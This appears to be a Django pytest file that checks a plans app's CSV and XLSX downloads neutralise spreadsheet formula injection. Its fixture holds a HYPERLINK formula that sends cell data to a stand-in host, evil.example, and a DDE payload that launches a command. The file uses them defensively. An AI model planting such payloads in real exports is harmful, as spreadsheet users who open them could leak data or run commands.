"""Every CSV and XLSX the plans app writes neutralises cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from alliance87.plans.models import BudgetLine, CommonIndicator, FundingSource, IndicatorValue, ValueStatus
from alliance87.plans.tests.factories import make_indicator, make_node, make_period, make_plan

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_plan(world):
    plan = make_plan(owner_body=world.supply_chains, title=HOSTILE, slug="hostile")
    node = make_node(plan, title=HOSTILE, code="+1", description="@SUM(A1)")
    common = CommonIndicator.objects.create(title=HOSTILE, slug="hostile-common", unit="-units")
    indicator = make_indicator(
        node, title=HOSTILE, code="=1", source="@source", unit="+x", common_indicator=common
    )
    period = make_period(indicator, 2024, target=150, value=120)
    IndicatorValue.objects.filter(period=period).update(
        source="=cmd|' /C calc'!A0", status=ValueStatus.APPROVED
    )
    make_period(indicator, 2021, target=90, value=50)  # off track: the gap report lists it
    BudgetLine.objects.create(
        plan=plan,
        node=node,
        year=2024,
        description=HOSTILE,
        planned=Decimal(10),
        funding_source=FundingSource.OTHER,
        funder_name="-2+3",
    )
    return plan, indicator, common


def downloads(plan, indicator, common) -> list[str]:
    return [
        reverse("plans:logframe_csv", args=[plan.slug]),
        reverse("plans:verdicts_csv", args=[plan.slug]),
        reverse("plans:budget_csv", args=[plan.slug]),
        reverse("plans:indicator_csv", args=[plan.slug, indicator.pk]),
        reverse("plans:gaps_csv"),
        reverse("plans:plan_gaps_csv", args=[plan.slug]),
        reverse("plans:common_indicator_csv", args=[common.slug]),
    ]


def test_every_csv_download_neutralises_hostile_cells(client, world, hostile_plan):
    client.force_login(world.chair)
    seen_hostile = 0
    for url in downloads(*hostile_plan):
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.getvalue().decode("utf-8-sig")  # a streamed download too
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(STARTS) or _is_number(cell), (url, cell)
                seen_hostile += HOSTILE in cell
    assert seen_hostile >= 5  # the hostile titles were written, quoted, not dropped


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


def test_the_xlsx_export_writes_hostile_titles_as_text_never_as_formulas(client, world, hostile_plan):
    plan, _indicator, _common = hostile_plan
    client.force_login(world.chair)
    response = client.get(reverse("plans:workbook_export", args=[plan.slug]))
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    texts = []
    for name in ("Results", "Indicators", "Periods"):
        for row in workbook[name].iter_rows():
            for cell in row:
                assert cell.data_type != "f", (name, cell.coordinate, cell.value)
                texts.append(cell.value)
    assert HOSTILE in texts  # kept as the very text, so the workbook imports back unchanged
